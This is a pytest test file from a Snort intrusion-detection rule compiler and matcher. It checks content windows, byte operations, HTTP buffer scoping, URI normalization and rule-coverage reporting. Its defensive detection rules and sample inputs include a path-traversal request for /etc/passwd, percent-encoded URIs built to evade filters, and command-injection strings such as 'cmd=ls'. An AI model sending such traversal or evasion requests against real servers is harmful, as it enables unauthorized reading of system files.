    find() is bounded by the window end (review r3-2: unbounded find measured
    4 s / O(n^2) on a 160 KB b'A'*n + b'BB' packet)."""
    import time

    m = compile_snort(
        'alert tcp any any -> any any (msg:"w"; content:"AA"; '
        'content:"BB"; within:4; sid:3;)'
    )
    payload = b"A" * 320_000 + b"CCCCBB"  # BB ends past every AA window
    t0 = time.perf_counter()
    assert m.scan(payload).sids() == []  # no AA has BB within its window
    assert time.perf_counter() - t0 < 2.5  # quadratic measured ~16 s here
    # window satisfied at the very end still alerts
    assert m.scan(b"A" * 1000 + b"AABB").sids() == [3]


def test_cli_coverage_flag(tmp_path, capsys):
    rules = tmp_path / "c.rules"
    rules.write_text(
        'alert tcp any any -> any any (msg:"a"; content:"X"; '
        'byte_test:1,>,2,0,dce; sid:1;)\n'
        'alert tcp any any -> any any (msg:"b"; content:"Y"; '
        'flow:to_server; sid:2;)\n'
        'alert tcp any any -> any any (msg:"c"; content:"Z"; sid:3;)\n'
    )
    from regex_fpga_tpu.__main__ import main

    assert main(["snort", str(rules), "--coverage"]) == 0
    import json as _json

    rows = [_json.loads(l) for l in capsys.readouterr().out.splitlines()]
    # r5: flow is session-scope (scope_options), not partial
    assert {r["sid"]: r["status"] for r in rows} == {
        1: "partial", 2: "enforced", 3: "enforced"
    }
    assert [r["scope_options"] for r in rows if r["sid"] == 2] == [["flow"]]
    assert main(["snort", str(rules), "--coverage", "--partial-only"]) == 0
    rows = [_json.loads(l) for l in capsys.readouterr().out.splitlines()]
    assert sorted(r["sid"] for r in rows) == [1]


def test_modifier_var_defined_after_content_is_dropped_and_flagged():
    """r4 review finding 1: a content modifier referencing a variable
    whose byte_extract comes AFTER the content (never in scope when the
    content evaluates) must be dropped + flagged, not enforced against an
    empty env (which silently killed the rule)."""
    rules = ('alert tcp any any -> any any (msg:"x"; content:"B"; '
             'byte_extract:1,0,w; within:w; sid:11;)')
    m = compile_snort(rules)
    assert m.rules[0].unenforced_modifiers == ("within:w",)
    # the within is unenforced, content B alone decides -> rule fires
    assert 11 in _sids(m, b"B\x09xxx")
    rep = m.enforcement_report()
    row = rep["rules"][0]
    assert row["status"] == "partial"
    assert row["dropped_modifiers"] == ["within:w"]
    # properly ordered extract-before-content stays fully enforced
    ok = compile_snort('alert tcp any any -> any any (msg:"y"; '
                       'content:"H"; byte_extract:1,0,w; content:"V"; '
                       'within:w; sid:12;)')
    assert ok.enforcement_report()["rules"][0]["status"] == "enforced"


def test_undefined_modifier_var_flagged_partial():
    """r4 review finding 2: a dropped depth:varlen must surface as
    partial in enforcement_report, not 'enforced'."""
    m = compile_snort('alert tcp any any -> any any (msg:"v"; '
                      'content:"V"; depth:varlen; sid:9006;)')
    assert 9006 in _sids(m, b"......V")  # content still enforced
    row = m.enforcement_report()["rules"][0]
    assert row["status"] == "partial"
    assert row["dropped_modifiers"] == ["depth:varlen"]


def test_cli_snort_requires_files_without_coverage(tmp_path, capsys):
    """r4 review finding 7: 'snort RULES' with no files must error (2),
    not silently scan nothing and return 1."""
    rules = tmp_path / "r.rules"
    rules.write_text(
        'alert tcp any any -> any any (msg:"a"; content:"X"; sid:1;)\n'
    )
    from regex_fpga_tpu.__main__ import main

    assert main(["snort", str(rules)]) == 2


def test_byte_op_verify_fuzz_vs_bruteforce_oracle():
    """Property fuzz for the byte-op verify program: _verify == an
    independent oracle that enumerates ALL content-occurrence choices and
    evaluates ByteTest/ByteJump/ByteExtract/IsDataAt by direct arithmetic
    — catches wrong later_relative pruning (greedy where the byte op's
    cursor dependence makes occurrence choice matter) and env-threading
    bugs."""
    import random

    from regex_fpga_tpu.api import SnortMatcher, _BYTE_OPS
    from regex_fpga_tpu.models.snort import (
        ByteExtract, ByteJump, ByteTest, IsDataAt, SnortContent, SnortRule,
    )

    rnd = random.Random(17)

    def occurrences(hay, needle):
        out, at = [], hay.find(needle)
        while at != -1:
            out.append(at)
            at = hay.find(needle, at + 1)
        return out

    def read_val(raw, pos, count):
        if pos < 0 or pos + count > len(raw):
            return None
        return int.from_bytes(raw[pos:pos + count], "big"), pos + count

    def oracle(ops, raw):
        n = len(raw)

        def ok(ci, cur, env):
            if ci == len(ops):
                return True
            c = ops[ci]
            if isinstance(c, ByteTest):
                off = env.get(c.offset) if isinstance(c.offset, str) else c.offset
                val = env.get(c.value) if isinstance(c.value, str) else c.value
                if off is None or val is None:
                    return False
                got = read_val(raw, (cur if c.relative else 0) + off, c.count)
                if got is None:
                    return False
                res = _BYTE_OPS[c.op](got[0], val)
                if c.negate:
                    res = not res
                return res and ok(ci + 1, cur, env)
            if isinstance(c, ByteExtract):
                off = env.get(c.offset) if isinstance(c.offset, str) else c.offset
                if off is None:
                    return False
                got = read_val(raw, (cur if c.relative else 0) + off, c.count)
                if got is None:
                    return False
                v, end = got
                return ok(ci + 1, end, {**env, c.name: v * c.multiplier})
            if isinstance(c, IsDataAt):
                pos = env.get(c.pos) if isinstance(c.pos, str) else c.pos
                if pos is None:
                    return False
                base = cur if c.relative else 0
                exists = 0 <= base + pos < n
                return exists != c.negate and ok(ci + 1, cur, env)
            if isinstance(c, ByteJump):
                off = env.get(c.offset) if isinstance(c.offset, str) else c.offset
                if off is None:
                    return False
                got = read_val(raw, (cur if c.relative else 0) + off, c.count)
                if got is None:
                    return False
                v, end = got
                tgt = end + v * c.multiplier
                if not 0 <= tgt <= n:
                    return False
                return ok(ci + 1, tgt, env)
            # content: enumerate every in-window occurrence
            start = cur + (c.distance or 0) if (
                c.distance is not None or c.within is not None
            ) else (c.offset or 0 if c.offset is not None or c.depth is not None
                    else cur)
            end_limit = cur + c.within if c.within is not None else None
            if c.depth is not None:
                dl = (c.offset or 0) + c.depth
                end_limit = dl if end_limit is None else min(end_limit, dl)
            occ = [a for a in occurrences(raw, c.pattern)
                   if a >= max(start, 0)
                   and (end_limit is None
                        or a + len(c.pattern) <= end_limit)]
            return any(ok(ci + 1, a + len(c.pattern), env) for a in occ)

        return ok(0, 0, {})

    lits = [b"A", b"AB", b"B"]
    agree = 0
    for _ in range(400):
        ops = []
        nvars = 0
        for i in range(rnd.randint(2, 4)):
            kind = rnd.random()
            if kind < 0.4 or i == 0:
                kw = {}
                if i > 0 and rnd.random() < 0.4:
                    kw["within"] = rnd.randint(1, 6)
                if i > 0 and rnd.random() < 0.3:
                    kw["distance"] = rnd.randint(0, 2)
                ops.append(SnortContent(pattern=rnd.choice(lits), **kw))
            elif kind < 0.55:
                ops.append(ByteTest(
                    count=1, op=rnd.choice(["<", ">", "=", "&"]),
                    negate=rnd.random() < 0.3,
                    value=(f"v{rnd.randint(0, nvars - 1)}"
                           if nvars and rnd.random() < 0.5
                           else rnd.randint(0, 4)),
                    offset=rnd.randint(0, 2), relative=rnd.random() < 0.7,
                ))
            elif kind < 0.7:
                ops.append(ByteJump(count=1, offset=rnd.randint(0, 2),
                                    relative=rnd.random() < 0.7,
                                    multiplier=rnd.choice([1, 1, 2])))
            elif kind < 0.85:
                ops.append(ByteExtract(count=1, offset=rnd.randint(0, 2),
                                       name=f"v{nvars}",
                                       relative=rnd.random() < 0.7,
                                       multiplier=rnd.choice([1, 2])))
                nvars += 1
            else:
                ops.append(IsDataAt(
                    pos=(f"v{rnd.randint(0, nvars - 1)}"
                         if nvars and rnd.random() < 0.5
                         else rnd.randint(0, 8)),
                    relative=rnd.random() < 0.7,
                    negate=rnd.random() < 0.3,
                ))
        contents = tuple(o for o in ops if isinstance(o, SnortContent))
        rule = SnortRule(action="alert", proto="tcp", header="", msg="f",
                         sid=1, contents=contents, pcre=None, options=(),
                         verify_ops=tuple(ops))
        m = SnortMatcher([rule])
        for _ in range(4):
            raw = bytes(rnd.choice(b"AB\x00\x01\x02\x03")
                        for _ in range(rnd.randint(0, 12)))
            got = m._verify(0, raw, raw.lower())
            want = oracle(ops, raw)
            assert got == want, (ops, raw, got, want)
            agree += 1
    assert agree == 1600


HTTP_RULES = r'''
alert tcp any any -> any 80 (msg:"uri traversal"; content:"../"; http_raw_uri; sid:9600;)
alert tcp any any -> any 80 (msg:"method"; content:"POST"; http_method; sid:9601;)
alert tcp any any -> any 80 (msg:"hdr agent"; content:"User-Agent: evil"; http_header; nocase; sid:9602;)
alert tcp any any -> any 80 (msg:"body cmd"; content:"cmd="; http_client_body; sid:9603;)
alert tcp any any -> any 80 (msg:"cookie sess"; content:"SESSID="; http_cookie; sid:9604;)
alert tcp any any -> any 80 (msg:"uri chain"; content:"/admin"; http_uri; content:".php"; http_uri; distance:0; sid:9605;)
alert tcp any any -> any 80 (msg:"uri neg"; content:"/index"; http_uri; content:!"cgi"; http_uri; sid:9606;)
alert tcp any any -> any 80 (msg:"uri offset"; content:"/x"; http_uri; offset:0; depth:2; sid:9607;)
alert tcp any any -> any 80 (msg:"buf byteop dropped"; content:"/y"; http_uri; byte_test:1,>,2,0,relative; sid:9608;)
'''


@pytest.fixture(scope="module")
def http_matcher():
    return compile_snort(HTTP_RULES)


def _req(method=b"GET", uri=b"/index.html", headers=b"Host: x\r\n",
         body=b""):
    blank = b"\r\n" if headers or body else b""
    return method + b" " + uri + b" HTTP/1.1\r\n" + headers + blank + body


def test_http_uri_buffer_scoping(http_matcher):
    # ../ in the RAW URI alerts (Snort-default http_uri normalizes the
    # traversal away — real traversal rules target http_raw_uri); the
    # same bytes in the BODY must not
    assert 9600 in _sids(http_matcher, _req(uri=b"/a/../etc/passwd"))
    assert 9600 not in _sids(http_matcher, _req(body=b"see ../ here"))
    # non-HTTP payload: buffer absent, rule cannot fire
    assert 9600 not in _sids(http_matcher, b"random ../ bytes")


def test_http_method_and_header(http_matcher):
    assert 9601 in _sids(http_matcher, _req(method=b"POST"))
    # "POST" in the URI is not the method buffer
    assert 9601 not in _sids(http_matcher, _req(uri=b"/POST"))
    assert 9602 in _sids(
        http_matcher, _req(headers=b"user-agent: EVIL\r\nHost: x\r\n")
    )
    assert 9602 not in _sids(
        http_matcher, _req(body=b"User-Agent: evil")
    )


def test_http_body_and_cookie(http_matcher):
    assert 9603 in _sids(http_matcher, _req(method=b"POST",
                                            body=b"a=1&cmd=ls"))
    assert 9603 not in _sids(http_matcher, _req(uri=b"/cmd=ls"))
    assert 9604 in _sids(
        http_matcher, _req(headers=b"Cookie: SESSID=abc\r\n")
    )
    # SESSID in another header is not the cookie buffer
    assert 9604 not in _sids(
        http_matcher, _req(headers=b"X-Note: SESSID=abc\r\n")
    )


def test_http_uri_relative_chain_and_windows(http_matcher):
    # distance:0 within the SAME buffer: .php must follow /admin
    assert 9605 in _sids(http_matcher, _req(uri=b"/admin/login.php"))
    assert 9605 not in _sids(http_matcher, _req(uri=b"/login.php/admin"))
    # buffer-scoped negation
    assert 9606 in _sids(http_matcher, _req(uri=b"/index.html"))
    assert 9606 not in _sids(http_matcher, _req(uri=b"/index-cgi"))
    # cgi outside the uri does not kill the rule (buffer-scoped absence)
    assert 9606 in _sids(http_matcher, _req(uri=b"/index", body=b"cgi"))
    # offset/depth are BUFFER-relative
    assert 9607 in _sids(http_matcher, _req(uri=b"/x/zzz"))
    assert 9607 not in _sids(http_matcher, _req(uri=b"/z/x"))


def test_buffer_relative_byte_op_dropped_and_flagged(http_matcher):
    # the byte_test anchored inside the uri buffer is outside the model:
    # content alone decides, and the report flags the dropped op
    assert 9608 in _sids(http_matcher, _req(uri=b"/y"))
    rep = http_matcher.enforcement_report()
    row = next(r for r in rep["rules"] if r["sid"] == 9608)
    assert row["status"] == "partial" and row["byte_ops_unparsed"] == 1
    # everything else in the corpus is fully enforced
    assert rep["summary"]["enforced"] == 8


def test_http_parser_units():
    from regex_fpga_tpu.models.http import parse_http_request

    b = parse_http_request(
        b"GET /a?q=1 HTTP/1.1\r\nHost: h\r\nCookie: k=v\r\n\r\nBODY"
    )
    raw = b"GET /a?q=1 HTTP/1.1\r\nHost: h\r\nCookie: k=v\r\n\r\nBODY"
    assert raw[slice(*b.method)] == b"GET"
    assert raw[slice(*b.uri)] == b"/a?q=1"
    assert raw[slice(*b.header)] == b"Host: h\r\nCookie: k=v\r\n"
    assert raw[slice(*b.client_body)] == b"BODY"
    assert raw[slice(*b.cookie)] == b"k=v"
    assert parse_http_request(b"NOTAMETHOD /x HTTP/1.1\r\n") is None
    assert parse_http_request(b"") is None
    assert parse_http_request(b"GET  HTTP/1.1\r\n") is None
    # request line only, LF endings, no blank line
    b2 = parse_http_request(b"POST /p HTTP/1.0\nA: 1\n")
    raw2 = b"POST /p HTTP/1.0\nA: 1\n"
    assert raw2[slice(*b2.uri)] == b"/p"
    assert raw2[slice(*b2.header)] == b"A: 1\n"
    assert b2.client_body is None and b2.cookie is None


def test_buffered_negation_window_clamped_to_buffer():
    """r4 review 3: a negated buffered content's window must not spill
    past the buffer end into the headers."""
    m = compile_snort('alert tcp any any -> any 80 (msg:"n"; '
                      'content:"/index"; http_uri; content:!"X"; http_uri; '
                      'within:100; sid:21;)')
    # 'X' appears in the HEADERS but not the URI: the rule must alert
    assert 21 in _sids(m, b"GET /index.html HTTP/1.1\r\nX: 1\r\n\r\n")
    # 'X' inside the uri window suppresses it
    assert 21 not in _sids(m, b"GET /indexX HTTP/1.1\r\nA: 1\r\n\r\n")


def test_buffer_relative_byte_op_dropped_despite_ordering():
    """r4 review 3: the drop must be order-robust — the http modifier may
    come AFTER the byte op, and zero-width ops in between don't re-anchor."""
    from regex_fpga_tpu.models.snort import ByteTest, parse_snort_rules

    r1 = parse_snort_rules(
        'alert tcp any any -> any 80 (msg:"a"; content:"ndex"; '
        'byte_test:1,=,46,0,relative; http_uri; sid:1;)')[0]
    assert not any(isinstance(o, ByteTest) for o in r1.verify_ops)
    r2 = parse_snort_rules(
        'alert tcp any any -> any 80 (msg:"b"; content:"/y"; http_uri; '
        'isdataat:1; byte_test:1,>,2,0,relative; sid:2;)')[0]
    assert sum(isinstance(o, ByteTest) for o in r2.verify_ops) == 0
    # an ABSOLUTE byte op after a buffered content is fine (raw-anchored)
    r3 = parse_snort_rules(
        'alert tcp any any -> any 80 (msg:"c"; content:"/y"; http_uri; '
        'byte_test:1,>,2,4; sid:3;)')[0]
    assert sum(isinstance(o, ByteTest) for o in r3.verify_ops) == 1
    # a raw content between re-anchors the raw cursor: relative ops OK
    r4 = parse_snort_rules(
        'alert tcp any any -> any 80 (msg:"d"; content:"/y"; http_uri; '
        'content:"Host"; byte_test:1,>,2,0,relative; sid:4;)')[0]
    assert sum(isinstance(o, ByteTest) for o in r4.verify_ops) == 1


def test_cross_buffer_relative_content_stripped_and_flagged():
    """r4 review 3: distance/within crossing buffer domains is stripped +
    flagged, never silently mis-anchored."""
    m = compile_snort(
        'alert tcp any any -> any 80 (msg:"x"; content:"/admin"; http_uri; '
        'content:"evil"; distance:0; sid:31;)\n'
        'alert tcp any any -> any 80 (msg:"y"; content:"GET"; http_method; '
        'content:"sess"; http_cookie; distance:2; sid:32;)\n'
    )
    r31 = m.rules[0]
    assert r31.verify_ops[1].distance is None       # stripped
    assert any("crosses buffers" in d for d in r31.unenforced_modifiers)
    rows = {r["sid"]: r for r in m.enforcement_report()["rules"]}
    assert rows[31]["status"] == rows[32]["status"] == "partial"
    # the contents themselves stay enforced: "evil" anywhere + /admin in uri
    assert 31 in _sids(m, b"GET /admin HTTP/1.1\r\n\r\nevil")
    assert 31 not in _sids(m, b"GET /admin HTTP/1.1\r\n\r\nfine")


def test_dropped_extract_kills_dependent_ops_not_rule():
    """A byte_extract dropped for buffer anchoring takes its dependents
    with it (flagged), leaving the contents enforced."""
    from regex_fpga_tpu.models.snort import ByteTest, parse_snort_rules

    r = parse_snort_rules(
        'alert tcp any any -> any 80 (msg:"e"; content:"/y"; http_uri; '
        'byte_extract:1,0,v,relative; byte_test:1,>,v,4; sid:5;)')[0]
    assert len(r.verify_ops) == 1  # only the content survives
    m = compile_snort(
        'alert tcp any any -> any 80 (msg:"e"; content:"/y"; http_uri; '
        'byte_extract:1,0,v,relative; byte_test:1,>,v,4; sid:5;)')
    assert 5 in _sids(m, b"GET /y HTTP/1.1\r\n\r\n")
    row = m.enforcement_report()["rules"][0]
    assert row["status"] == "partial" and row["byte_ops_unparsed"] == 2


def test_dsize_enforced():
    m = compile_snort(
        'alert tcp any any -> any any (msg:"eq"; content:"A"; dsize:5; sid:41;)\n'
        'alert tcp any any -> any any (msg:"gt"; content:"A"; dsize:>10; sid:42;)\n'
        'alert tcp any any -> any any (msg:"lt"; content:"A"; dsize:<4; sid:43;)\n'
        'alert tcp any any -> any any (msg:"rng"; content:"A"; dsize:3<>6; sid:44;)\n'
        'alert tcp any any -> any any (msg:"var"; content:"A"; dsize:oops; sid:45;)\n'
    )
    assert _sids(m, b"A" * 5) == [41, 44, 45]   # 5: eq, in 3..6 incl.
    assert _sids(m, b"A" * 3) == [43, 44, 45]   # 3: <4, range lo incl.
    assert _sids(m, b"A" * 6) == [44, 45]       # 6: range hi inclusive
    assert _sids(m, b"A" * 11) == [42, 45]      # 11: >10 strict
    assert _sids(m, b"A" * 10) == [45]
    # unparsed dsize value: content-only + flagged
    rows = {r["sid"]: r for r in m.enforcement_report()["rules"]}
    assert rows[45]["status"] == "partial"
    assert rows[45]["unenforced_options"] == ["dsize"]
    assert all(rows[s]["status"] == "enforced" for s in (41, 42, 43, 44))


def test_dsize_parser_units():
    from regex_fpga_tpu.models.snort import parse_dsize

    assert parse_dsize("300") == (300, 300)
    assert parse_dsize(">300") == (301, None)
    assert parse_dsize("<300") == (None, 299)
    assert parse_dsize("300<>400") == (300, 400)
    assert parse_dsize("400<>300") is None
    assert parse_dsize("<0") is None
    assert parse_dsize("abc") is None


def test_dead_extract_offset_depth_stripped_not_fatal():
    """Advisor r5 finding 1: a content whose offset/depth references a
    DROPPED byte_extract must have those modifiers stripped + flagged —
    not keep the string var (which the verify walk can never resolve,
    silently killing the rule)."""
    from regex_fpga_tpu.models.snort import SnortContent

    src = ('alert tcp any any -> any 80 (msg:"d"; content:"/y"; http_uri; '
           'byte_extract:1,0,v,relative; content:"zz"; offset:v; sid:61;)')
    r = parse_snort_rules(src)[0]
    czz = [op for op in r.verify_ops
           if isinstance(op, SnortContent) and op.pattern == b"zz"][0]
    assert czz.offset is None  # stripped, not the dead string var
    assert any("offset/depth" in d for d in r.unenforced_modifiers)
    m = compile_snort(src)
    assert 61 in _sids(m, b"GET /y HTTP/1.1\r\nX: zz\r\n\r\n")
    row = m.enforcement_report()["rules"][0]
    assert row["status"] == "partial"


def test_negated_cross_buffer_content_dropped_not_widened():
    """Advisor r5 finding 2: stripping distance/within from a NEGATED
    content that crosses buffer domains would widen the asserted absence
    to the whole payload (false negatives whenever the pattern appears
    anywhere).  The negation op is dropped entirely instead."""
    src = ('alert tcp any any -> any 80 (msg:"n"; content:"/y"; http_uri; '
           'content:!"bad"; distance:0; within:3; sid:62;)')
    r = parse_snort_rules(src)[0]
    assert not any(getattr(op, "negated", False) for op in r.verify_ops)
    assert any("negated content" in d for d in r.unenforced_modifiers)
    m = compile_snort(src)
    # 'bad' in a HEADER must not suppress the alert (the negation only
    # ever applied to a 3-byte window after the previous match)
    assert 62 in _sids(m, b"GET /y HTTP/1.1\r\nX: bad\r\n\r\n")
    row = m.enforcement_report()["rules"][0]
    assert row["status"] == "partial"


# --------------------------- http_uri normalization (r5 verdict item 9)


def test_normalize_uri_unit():
    from regex_fpga_tpu.models.http import normalize_uri

    assert normalize_uri(b"/admin") == b"/admin"
    assert normalize_uri(b"/%61dmin") == b"/admin"
    assert normalize_uri(b"/a//b") == b"/a/b"
    assert normalize_uri(b"/a/./b") == b"/a/b"
    assert normalize_uri(b"/a/../b") == b"/b"
    assert normalize_uri(b"/a/b/..") == b"/a/"
    assert normalize_uri(b"/..") == b"/"
    assert normalize_uri(b"//") == b"/"
    assert normalize_uri(b"/a/b/../../../c") == b"/c"  # clamped at root
    assert normalize_uri(b"/x/%2e%2e/y") == b"/y"      # decode THEN compress
    # query: decoded, never path-compressed
    assert normalize_uri(b"/p?a=%41&b=..//x") == b"/p?a=A&b=..//x"
    # malformed %-sequences pass through verbatim
    assert normalize_uri(b"/a%zz%4") == b"/a%zz%4"
    # proxy-form and asterisk-form URIs keep their bytes
    assert normalize_uri(b"http://h//x") == b"http://h//x"
    assert normalize_uri(b"*") == b"*"


def test_http_uri_matches_normalized_form():
    """A rule written in normalized form must hit percent-encoded and
    traversal-obfuscated traffic (the Snort false-negative class the r4
    verdict flagged)."""
    src = ('alert tcp any any -> any 80 (msg:"u"; content:"/admin/login"; '
           'http_uri; sid:71;)')
    m = compile_snort(src)
    assert 71 in _sids(m, b"GET /admin/login HTTP/1.1\r\n\r\n")
    assert 71 in _sids(m, b"GET /%61dmin/login HTTP/1.1\r\n\r\n")
    assert 71 in _sids(m, b"GET /x/../admin/./login HTTP/1.1\r\n\r\n")
    # and the content is genuinely URI-scoped: same bytes in a header
    # must not fire
    assert 71 not in _sids(
        m, b"GET /other HTTP/1.1\r\nX: /admin/login\r\n\r\n")


def test_http_raw_uri_stays_raw():
    src = ('alert tcp any any -> any 80 (msg:"r"; content:"%61dmin"; '
           'http_raw_uri; sid:72;)\n'
           'alert tcp any any -> any 80 (msg:"n"; content:"admin"; '
           'http_uri; sid:73;)')
    m = compile_snort(src)
    got = _sids(m, b"GET /%61dmin HTTP/1.1\r\n\r\n")
    assert 72 in got and 73 in got  # raw sees the encoding, norm decodes
    got2 = _sids(m, b"GET /admin HTTP/1.1\r\n\r\n")
    assert 72 not in got2 and 73 in got2


def test_http_uri_nocase_and_windows_in_normalized_coords():
    src = ('alert tcp any any -> any 80 (msg:"nc"; content:"ADMIN"; '
           'http_uri; nocase; sid:74;)\n'
           'alert tcp any any -> any 80 (msg:"w"; content:"/a"; http_uri; '
           'content:"secret"; http_uri; distance:0; within:8; sid:75;)')
    m = compile_snort(src)
    assert 74 in _sids(m, b"GET /%41dMiN HTTP/1.1\r\n\r\n")
    # normalized "/a__secret": distance/within measured in DECODED bytes
    assert 75 in _sids(m, b"GET /%61__secret HTTP/1.1\r\n\r\n")
    # 9 bytes between: outside within:8 in normalized coords
    assert 75 not in _sids(
        m, b"GET /%61_________secret HTTP/1.1\r\n\r\n")


def test_uri_content_not_in_raw_prefilter_gate():
    """uri-buffered contents must not gate the raw-stream prefilter: the
    decoded form need not occur literally in the payload."""
    src = ('alert tcp any any -> any 80 (msg:"p"; content:"/hidden"; '
           'http_uri; sid:76;)')
    m = compile_snort(src)
    # raw payload does NOT contain "/hidden" anywhere
    payload = b"GET /%68idden HTTP/1.1\r\n\r\n"
    assert b"/hidden" not in payload
    assert 76 in _sids(m, payload)


def test_negated_http_uri_checked_in_normalized_buffer():
    src = ('alert tcp any any -> any 80 (msg:"ng"; content:"/app"; '
           'http_uri; content:!"debug"; http_uri; sid:77;)')
    m = compile_snort(src)
    assert 77 in _sids(m, b"GET /app/run HTTP/1.1\r\n\r\n")
    # encoded "debug" decodes into the normalized buffer -> absence fails
    assert 77 not in _sids(m, b"GET /app/%64ebug HTTP/1.1\r\n\r\n")
    # "debug" in a header does not poison the URI-scoped negation
    assert 77 in _sids(
        m, b"GET /app HTTP/1.1\r\nX: debug\r\n\r\n")


def test_urilen_enforced():
    src = (
        'alert tcp any any -> any 80 (msg:"gt"; content:"GET "; depth:4; '
        'urilen:>10; sid:81;)\n'
        'alert tcp any any -> any 80 (msg:"rng"; urilen:3<>8; content:"GET "; '
        'sid:82;)\n'
        'alert tcp any any -> any 80 (msg:"raw"; urilen:>10,raw; '
        'content:"GET "; sid:83;)\n'
        'alert tcp any any -> any 80 (msg:"bad"; urilen:oops; content:"GET "; '
        'sid:84;)\n'
    )
    m = compile_snort(src)
    assert _sids(m, b"GET /0123456789a HTTP/1.1\r\n\r\n") == [81, 83, 84]
    assert _sids(m, b"GET /abc HTTP/1.1\r\n\r\n") == [82, 84]
    # urilen measures the NORMALIZED uri by default: 16 raw bytes decode
    # to 6 -> only the ,raw form (and the unparsed one) fire
    assert _sids(m, b"GET /%61%62%63%64%65 HTTP/1.1\r\n\r\n") == [82, 83, 84]
    # no parseable HTTP request: urilen rules cannot fire
    assert _sids(m, b"GET_NOSPACE") == []
    rows = {r["sid"]: r for r in m.enforcement_report()["rules"]}
    assert rows[81]["status"] == "enforced"
    assert rows[84]["status"] == "partial"
    assert rows[84]["unenforced_options"] == ["urilen"]


def test_urilen_parser_units():
    from regex_fpga_tpu.models.snort import parse_urilen

    assert parse_urilen("10") == (10, 10, "norm")
    assert parse_urilen(">10") == (11, None, "norm")
    assert parse_urilen("<10") == (None, 9, "norm")
    assert parse_urilen("3<>8") == (3, 8, "norm")
    assert parse_urilen(">10, raw") == (11, None, "raw")
    assert parse_urilen("5,norm") == (5, 5, "norm")
    assert parse_urilen("5,bogus") is None
    assert parse_urilen("x") is None


def test_negated_content_dead_offset_dropped_not_widened():
    """r5 review finding 1 (both variants): a NEGATED content whose
    offset/depth can never resolve is dropped entirely — stripping would
    widen the asserted absence to the whole buffer (false negatives)."""
    # resolve-time variant: the var dies when its byte_extract is
    # dropped for buffer anchoring
    src = ('alert tcp any any -> any 80 (msg:"a"; content:"/y"; http_uri; '
           'byte_extract:1,0,v,relative; content:!"zz"; offset:v; sid:91;)')
    r = parse_snort_rules(src)[0]
    assert not any(getattr(op, "negated", False) for op in r.verify_ops)
    m = compile_snort(src)
    # "zz" BEFORE where v could point must not suppress the alert
    assert 91 in _sids(m, b"GET /y HTTP/1.1\r\nzz: x\r\n\r\n")
    # parse-time variant: undefined variable in the modifier
    src2 = ('alert tcp any any -> any any (msg:"b"; content:"AAA"; '
            'byte_extract:2,0,vv,relative,dce; content:!"ZZZ"; depth:vv; '
            'sid:92;)')
    r2 = parse_snort_rules(src2)[0]
    assert not any(getattr(c, "negated", False) for c in r2.contents)
    assert any("not widened" in d for d in r2.unenforced_modifiers)
    m2 = compile_snort(src2)
    assert 92 in _sids(m2, b"AAA....ZZZ")


def test_export_coe_roundtrip(tmp_path):
    """Snort rules -> reference-format .coe -> reload -> the golden NFA
    oracle reproduces every literal occurrence (the pipeline whose output
    the reference ships as CSR_BlockMem_snort_16.coe)."""
    from regex_fpga_tpu.models import load_coe, nfa_scan

    src = (
        'alert tcp any any -> any 80 (msg:"a"; content:"cmd.exe"; sid:1;)\n'
        'alert tcp any any -> any 80 (msg:"b"; content:"/etc/passwd"; '
        'http_uri; sid:2;)\n'
        'alert tcp any any -> any any (msg:"c"; content:"|90 90|X"; '
        'content:!"skip"; sid:3;)\n'
    )
    m = compile_snort(src)
    p = tmp_path / "rules.coe"
    aut, owner, lits = m.export_coe(str(p))
    assert set(lits) == {b"cmd.exe", b"/etc/passwd", b"\x90\x90X"}
    re_aut = load_coe(str(p))
    assert re_aut.num_states == aut.num_states
    payload = np.frombuffer(
        b"xx cmd.exe yy /etc/passwd zz \x90\x90X cmd.exe", np.uint8)
    counts = nfa_scan(re_aut, payload)
    # per-literal totals via the owner map (reference per-state counters)
    per_lit = {i: 0 for i in range(len(lits))}
    for s, c in enumerate(counts):
        if c and owner[s] >= 0:
            per_lit[int(owner[s])] += int(c)
    want = {lits.index(b"cmd.exe"): 2, lits.index(b"/etc/passwd"): 1,
            lits.index(b"\x90\x90X"): 1}
    # NOTE reference timing drops an accept entered by the FINAL byte —
    # the trailing "cmd.exe" accept state is entered on the last byte and
    # never scanned, exactly the RTL semantics (SURVEY.md SS3.3 item 4)
    want[lits.index(b"cmd.exe")] -= 1
    assert {k: v for k, v in per_lit.items() if v} == {
        k: v for k, v in want.items() if v}


def test_cli_export_coe(tmp_path, capsys):
    rules = tmp_path / "r.rules"
    rules.write_text(
        'alert tcp any any -> any any (msg:"x"; content:"XYZ"; sid:1;)\n')
    out = tmp_path / "r.coe"
    from regex_fpga_tpu.__main__ import main

    assert main(["snort", str(rules), "--export-coe", str(out)]) == 0
    from regex_fpga_tpu.models import load_coe

    aut = load_coe(str(out))
    assert aut.num_states > 3 and aut.accept_mask.sum() == 1
